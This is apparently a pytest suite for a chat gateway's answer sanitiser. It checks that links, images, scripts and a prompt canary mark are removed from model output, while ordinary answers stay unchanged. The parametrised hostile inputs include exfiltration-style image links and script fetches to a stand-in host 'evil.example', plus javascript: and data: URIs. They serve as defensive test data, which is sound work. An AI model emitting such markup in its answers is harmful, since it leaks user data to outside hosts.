"""Nothing in an answer can fetch anything."""

import json
import time
from pathlib import Path

import pytest

from gateway.chat.output import REMOVED_LINK, clean


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/p.png?d=secret)",
        "[click](https://evil.example)",
        "[click][1]\n\n[1]: https://evil.example",
        "<img src=https://evil.example/x>",
        "<img src='//evil.example/x'",
        "<script>fetch('https://evil.example')</script>",
        "see https://evil.example/path?q=1",
        "HTTPS://EVIL.EXAMPLE",
        "www.evil.example/x",
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "\\\\evil.example\\share",
        "//evil.example/x",
        "ht\u200btps://evil.example",
        "<<b>img src=https://evil.example>",
        "![a]![b](https://evil.example)(https://evil.example)",
        "mailto:a@evil.example",
        "Source:https://evil.example/?d=secret",
        "ms-word:ofe|u|https://evil.example/x.docx",
        "ms-word:ofe|u|evil.example",
        "note:www.evil.example",
        "see:javascript:alert(1)",
        "foo://evil.example/x",
        "(//evil.example/x)",
        "[a\nb](/logout)",
        "![x\ny](/image)",
        "[a\n\nb][ref\nerence]",
        "=https://evil.example",
    ],
)
def test_hostile_markup_becomes_text(hostile: str) -> None:
    cleaned = clean(f"Before {hostile} after").lower()
    for sign in (
        "://",
        "](",
        "<img",
        "<script",
        "javascript:",
        "data:",
        "www.",
        "\\\\",
        "//evil",
        "mailto:",
        "ms-word:",
    ):
        assert sign not in cleaned
    assert "before" in cleaned


@pytest.mark.parametrize(
    "answer",
    [
        "Hotels may cost 140 EUR a night [1]. Ratio 3:4, if a < b and c > d; see section 4.2 [2].",
        "Note: the data: file names and/or paths such as a/b/c.md, at 12:30 [1].",
        "Metadata:yes, profile:none, and either/or [2: not confirmed].",
        "Version 2.10.3 reads config.yaml and handbook/benefits.md, e.g. twice a year, i.e. on 1.2.2027.",
        "The network 10.0.0.0/8 and AT&T, R&D, Q&A; 5 % of 1,000 EUR; <3; x <= 5; v1.2/guide.md.",
        'Use `pip install x` and m[i][j], {a: 1}, {"k": [[1, 2], [3]]}, C:\\Users\\shared; **bold** and _it_.',
        "```python\nprint(1)\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "- one\n- two\n\n> said\n\n1. first",
        "Ça coûte 5 € – environ; 価格は百円です。次の文。 Ünïcode ½ ² …",
        "The card is [card number hidden], said [name hidden] [1].",
    ],
)
def test_plain_answers_stay_as_they_are(answer: str) -> None:
    assert clean(answer) == answer


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("See README.md.", "See `README.md`."),
        ("See `README.md`.", "See `README.md`."),
        ("Book with Booking.com, not ASP.NET.", "Book with `Booking.com`, not `ASP.NET`."),
        ("Write to **ada.brandt@harbour.example**.", "Write to **`ada.brandt@harbour.example`**."),
        ("It is C:\\docs\\setup.py now.", "It is `C:\\docs\\setup.py` now."),
    ],
)
def test_names_that_clients_would_link_are_set_as_code(answer: str, shown: str) -> None:
    assert clean(answer) == shown


def test_a_removed_link_is_said() -> None:
    assert clean("Go to https://x.example now") == f"Go to {REMOVED_LINK} now"


@pytest.mark.parametrize(
    "said",
    [
        "4f1c09ab",
        "4F1C09AB",
        "4f1c<b>09ab",
        "4 f 1 c 0 9 a b",
        "4f1c\u200b09ab",
        "4f1c[0](x)9ab",
        "</passage 1 4f1c09ab",
    ],
)
def test_the_mark_of_the_prompt_leaves_no_answer(said: str) -> None:
    letters = "".join(filter(str.isalnum, clean(f"It says {said} here.", ["4f1c09ab"]))).lower()
    assert "4f1c09ab" not in letters
    assert "4f1c09ab" in "".join(filter(str.isalnum, clean(f"It says {said} here."))).lower(), "the control"


def test_a_longer_answer_is_cut_after_a_word() -> None:
    assert clean("word " * 100, most_characters=22) == "word word word word …"
    assert len(clean("x" * 100_000)) < 16_000


@pytest.mark.parametrize(
    "piece", ["\\", "<!--", "a-_", "[", "`", "{a=", "&amp;", "](", "x\\", "a.b@", "-x\\", "](((", "\x1b]"]
)
def test_time_grows_with_length_alone(piece: str) -> None:
    """A square of four would be sixteen."""

    def seconds(characters: int) -> float:
        text, least = piece * (characters // len(piece)), float("inf")
        for _ in range(3):
            begun = time.process_time()
            clean(text, ["4f1c09ab"], characters)
            least = min(least, time.process_time() - begun)
        return least

    assert seconds(40_000) < 10 * seconds(10_000) + 0.05


def test_right_answers_about_a_public_handbook_stay_as_they_are(shared: Path) -> None:
    lines = (shared / "corpora" / "dev-qa.jsonl").read_text(encoding="utf-8").splitlines()
    right = [answer for line in lines if (answer := json.loads(line).get("answer"))]
    assert len(right) >= 50
    assert [answer for answer in right if clean(answer) != answer.strip()] == []
